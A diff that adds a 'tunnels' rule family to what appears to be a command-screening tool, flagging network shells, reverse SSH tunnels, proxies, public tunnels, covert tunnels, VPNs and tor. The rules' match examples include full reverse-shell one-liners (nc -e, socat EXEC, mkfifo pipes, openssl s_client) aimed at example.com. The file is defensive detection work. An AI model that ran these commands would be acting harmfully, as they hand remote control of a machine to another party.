@@ -1,0 +1,100 @@
+"""Ways in and out that no firewall sees."""
+
+from interlock.levels import Level
+from interlock.rules.rule import Rule, effect, family
+
+RULES = family(
+    "tunnels",
+    Rule(
+        name="shell_over_network",
+        level=Level.CRITICAL,
+        when=effect("net.*", "shell"),
+        reason="A shell that is reachable over the network gives the machine away",
+        reversible=False,
+        match=[
+            "$ nc -e /bin/sh example.com 99",
+            "$ ncat --exec /bin/bash example.com 99",
+            "$ socat TCP:example.com:99 EXEC:/bin/sh,pty",
+            "$ mkfifo p; cat p | sh -i 2>&1 | nc example.com 99 > p",
+            "$ sh -i < p | openssl s_client -quiet -connect example.com:99 > p",
+        ],
+        no_match=["$ nc -z example.com 80", "$ echo hi | nc example.com 99", "$ socat - TCP:example.com:80"],
+    ),
+    Rule(
+        name="terminal_shared",
+        level=Level.HIGH,
+        when=effect("net.listen", "shell_shared"),
+        reason="Whoever has the address of a shared terminal can type into it",
+        reversible=False,
+        match=["$ tmate", "$ ttyd bash", "$ gotty -w bash", "$ upterm host"],
+        no_match=["$ tmux new-session -d", "$ ttyd --version"],
+    ),
+    Rule(
+        name="reverse_tunnel",
+        level=Level.HIGH,
+        when=effect("net.*", "reverse_tunnel"),
+        reason="A reverse tunnel lets another machine reach into this network",
+        match=[
+            "$ ssh -R 8080:localhost:80 host",
+            "$ ssh -fNR 443:localhost:22 host",
+            "$ ssh -o 'RemoteForward 1 localhost:2' host",
+        ],
+        no_match=["$ ssh host", "$ ssh -L 5432:localhost:5432 host"],
+    ),
+    Rule(
+        name="proxy_tunnel",
+        level=Level.HIGH,
+        when=effect("net.*", "proxy_tunnel"),
+        reason="A proxy tunnel carries any traffic past the network's own rules",
+        match=["$ ssh -D 1080 host", "$ sshuttle -r host 10.0.0.0/8"],
+        no_match=["$ ssh host", "$ ssh -L 5432:localhost:5432 host"],
+    ),
+    Rule(
+        name="network_tunnel",
+        level=Level.HIGH,
+        when=effect("net.*", "network_tunnel"),
+        reason="Two networks would be joined into one",
+        match=["$ ssh -w 0:0 host", "$ ssh -o Tunnel=ethernet host"],
+        no_match=["$ ssh host"],
+    ),
+    Rule(
+        name="public_tunnel",
+        level=Level.HIGH,
+        when=effect("net.listen", "tunnel"),
+        reason="A public address would lead into this machine from everywhere",
+        match=["$ ngrok http 8000", "$ cloudflared tunnel --url http://localhost:8000", "$ tailscale funnel 3000"],
+        no_match=["$ ngrok config check", "$ tailscale status", "$ nc -l 8000"],
+    ),
+    Rule(
+        name="covert_tunnel",
+        level=Level.HIGH,
+        when=effect("net.connect", "covert"),
+        reason="Such a tunnel is made so that nobody sees what goes through it",
+        match=["$ chisel client example.com:80 R:socks", "$ iodine -f t.example.com"],
+        no_match=["$ chisel --help", "$ ssh host"],
+    ),
+    Rule(
+        name="private_network_joined",
+        level=Level.MEDIUM,
+        when=effect("net.connect", "vpn"),
+        reason="All traffic may take another way afterwards",
+        match=["$ wg-quick up wg0", "$ openvpn client.conf"],
+        no_match=["$ wg show", "$ openvpn --version"],
+    ),
+    Rule(
+        name="anonymous_network",
+        level=Level.MEDIUM,
+        when=effect("net.connect", "anonymous"),
+        reason="Through an anonymous network nobody can tell who speaks to whom",
+        match=["$ tor", "$ tor -f torrc"],
+        no_match=["$ tor --version", "$ tar xf a.tar"],
+    ),
+    Rule(
+        name="port_forwarded",
+        level=Level.MEDIUM,
+        when=effect("net.connect", "tunnel", without="covert proxy_tunnel"),
+        reason="A port of this machine would lead to another network",
+        match=["$ ssh -L 5432:localhost:5432 host", "$ ssh -NL 8080:db:80 host"],
+        no_match=["$ ssh host", "$ ssh -R 8080:localhost:80 host"],
+    ),
+)
